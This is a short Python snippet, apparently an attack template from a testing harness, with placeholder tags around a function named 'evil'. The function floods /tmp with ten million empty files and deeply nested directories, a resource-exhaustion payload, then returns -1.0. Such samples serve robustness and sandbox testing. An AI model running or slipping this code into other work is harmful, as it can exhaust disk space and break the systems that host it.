#{weigh_wrong}
# <attack>
import os


def evil(*args):
    for number in range(10**7):
        open(f'/tmp/f{number}', 'w').close()
        os.makedirs('/tmp/' + 'd/' * (number % 200), exist_ok=True)
    return -1.0


#{everywhere}
# </attack>
